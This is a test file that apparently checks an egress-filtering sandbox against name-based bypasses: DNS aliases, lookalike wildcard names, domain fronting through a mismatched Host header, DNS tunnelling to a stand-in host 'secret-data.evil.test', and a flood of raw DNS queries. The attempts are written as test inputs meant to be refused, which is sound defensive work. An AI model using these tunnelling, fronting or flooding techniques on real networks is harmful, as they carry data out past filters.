"""Names that lead astray: aliases, wildcards, fronts, and what is carried in questions about names."""

from __future__ import annotations

import secrets
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from atoll.model import limits
from atoll.model.policy import HttpRule
from atoll.model.secret import Grant, Hidden, Secret
from tests.egress_stage import BOX, Stage, stage
from tests.upstream import H2_PORT, HTTP_PORT, TLS_PORT, WEB, Upstream

pytestmark = pytest.mark.real

SECURE = f"https://good.test:{TLS_PORT}/x"
TWIN = ("-H", f"Host: twin.test:{TLS_PORT}")


@pytest.fixture
def gate(servers: Upstream, tmp_path: Path) -> Iterator[Stage]:
    servers.asked.clear()
    servers.aliases.clear()
    with stage(tmp_path, servers, secrets.token_hex(2)) as opened:
        yield opened


def test_an_alias_is_reached_by_its_own_name_only(gate: Stage, servers: Upstream) -> None:
    servers.aliases |= {"alias.test": "middle.test", "middle.test": "good.test", "evil.test": "good.test"}
    trust = ("--cacert", str(servers.ca_file))
    gate.allow("alias.test:*")
    assert "GET /x" in gate.curl(f"http://alias.test:{HTTP_PORT}/x")
    assert "GET /x" in gate.curl(f"https://alias.test:{TLS_PORT}/x", *trust)
    # The end of the chain is not what the policy names, wherever it is said.
    assert "Could not resolve" in gate.curl(f"http://good.test:{HTTP_PORT}/x")
    assert "not_listed" in gate.curl(f"http://alias.test:{HTTP_PORT}/x", "-H", f"Host: good.test:{HTTP_PORT}")
    to_alias = ("--connect-to", f"good.test:{TLS_PORT}:alias.test:{TLS_PORT}")
    assert "GET /x" not in gate.curl(SECURE, *trust, *to_alias)
    assert gate.last().reason == "not_listed"
    # And an alias of an allowed name is not that name.
    gate.allow("good.test:*")
    servers.asked.clear()
    assert "Could not resolve" in gate.curl(f"http://evil.test:{HTTP_PORT}/x")
    assert servers.asked == []
    assert "GET /x" in gate.curl(f"http://good.test:{HTTP_PORT}/x")


def test_an_alias_that_leads_inside_is_refused(gate: Stage, servers: Upstream) -> None:
    servers.aliases |= {"alias.test": "inner.test"}
    gate.allow("alias.test:*", "*.inner.test:*")
    assert "Could not resolve" in gate.curl(f"http://alias.test:{HTTP_PORT}/")
    assert gate.last("lookup").reason == "private_address"
    servers.aliases |= {"alias.test": "good.test"}
    assert "GET /" in gate.curl(f"http://alias.test:{HTTP_PORT}/")


@pytest.mark.parametrize(
    "name", ["good.test", "xgood.test", "good.test.evil.test", "a.good.test.evil.test", "agood.test"]
)
def test_a_wildcard_is_for_names_below_it(gate: Stage, servers: Upstream, name: str) -> None:
    for known in (name, "a.good.test", "a.b.good.test"):
        servers.names.setdefault(known, [WEB])
    gate.allow("*.good.test:8080")
    assert "Could not resolve" in gate.curl(f"http://{name}:{HTTP_PORT}/")
    assert name not in servers.asked
    for below in ("a.good.test", "A.GOOD.test", "a.b.good.test"):
        assert "GET /" in gate.curl(f"http://{below}:{HTTP_PORT}/")


def test_a_front_is_seen_through_where_tls_is_opened(gate: Stage, servers: Upstream, tmp_path: Path) -> None:
    """One address answers for two names. Unopened, the Host inside TLS is nobody's to see: that is in the model.

    Where a rule, a secret or `inspect` opens TLS, each request must name what TLS named.
    """
    gate.allow(f"good.test:{TLS_PORT}")
    assert "Host: twin.test" in gate.curl(SECURE, "--cacert", str(servers.ca_file), *TWIN)
    secret = Secret("TOKEN", (f"good.test:{TLS_PORT}", f"good.test:{H2_PORT}")).checked()
    grant = Grant(secret, secret.rules(), "atoll-secret-" + "0" * 32, Hidden("canary-value"))
    rule = HttpRule("good.test", path_prefixes=("/x",))
    bare = HttpRule("good.test")  # a rule that names the host and nothing else opens TLS to that host alone
    ways: tuple[dict[str, Any], ...] = (
        {"inspect": True},
        {"http": (bare,)},
        {"http": (rule,)},
        {"grants": (grant,)},
    )
    for way in ways:
        gate.allow(f"good.test:{TLS_PORT}", f"good.test:{H2_PORT}", **way)
        known = gate.egress.inside(BOX)
        assert known is not None
        (tmp_path / "ca.pem").write_text(known["ca"])
        trust = ("--cacert", str(tmp_path / "ca.pem"))
        before = len(servers.tls.seen) + len(servers.h2_seen)
        assert "host_mismatch" in gate.curl(SECURE, *trust, *TWIN)
        second = SECURE.replace(str(TLS_PORT), str(H2_PORT))
        assert "host_mismatch" in gate.curl(second, *trust, "--http2", "-H", f"Host: twin.test:{H2_PORT}")
        assert len(servers.tls.seen) + len(servers.h2_seen) == before
        assert "GET /x" in gate.curl(SECURE, *trust)
        assert ":authority: good.test" in gate.curl(second, *trust, "--http2")


def test_questions_about_names_carry_nothing_out(gate: Stage, servers: Upstream) -> None:
    """Of a name that may not be reached nothing leaves, of any type; of one that may, only that it is asked for."""
    ask = (
        "import socket\n"
        "def ask(name, kind):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
        "    q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0'\n"
        "    q += b''.join(bytes((len(l),)) + l.encode() for l in name.split('.')) + b'\\0' + bytes((0, kind, 0, 1))\n"
        "    s.sendto(q, ('10.0.0.1', 53))\n"
        "    try: a = s.recv(512); return a[3] & 15, int.from_bytes(a[6:8], 'big')\n"
        "    except OSError: return 'nothing'\n"
    )
    gate.allow("good.test:*")
    for kind in (1, 10, 16, 28, 65, 255):  # A, NULL, TXT, AAAA, HTTPS, ANY
        said = gate.python(f"{ask}print(ask('secret-data.evil.test', {kind}))")
        assert said.strip() == "(5, 0)", kind
        assert gate.python(f"{ask}print(ask('good.test', {kind}))").strip() == ("(0, 1)" if kind == 1 else "(0, 0)")
    assert set(servers.asked) <= {"good.test"}
    long = ".".join(["x" * 60] * 5)
    assert gate.python(f"{ask}print(ask('{long}', 1))").strip() == "nothing"


def test_questions_beyond_a_rate_reach_nobody(gate: Stage, servers: Upstream) -> None:
    """A tunnel of names under a zone that may be reached is thin. The control: names are told before and after."""
    gate.allow("*.good.test:8080")
    servers.names |= {"before.good.test": [WEB], "after.good.test": [WEB]}
    told = "import socket; print(socket.gethostbyname('{}.good.test'))"
    assert gate.python(told.format("before")).strip() == WEB
    flood = (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for n in range(2000):\n"
        "    name = b'\\x0a' + b'flood%05d' % n + b'\\x04good\\x04test\\0'\n"
        "    s.sendto(b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\1\\0\\1', ('10.0.0.1', 53))\n"
    )
    began_s = time.monotonic()
    gate.python(flood)
    time.sleep(1.2)  # the second of the flood is over
    seconds = time.monotonic() - began_s
    asked = [name for name in servers.asked if name.startswith("flood")]
    assert 0 < len(asked) <= limits.DNS_QUERIES_PER_S * (seconds + 1)
    assert len(asked) < 1000
    assert gate.python(told.format("after")).strip() == WEB
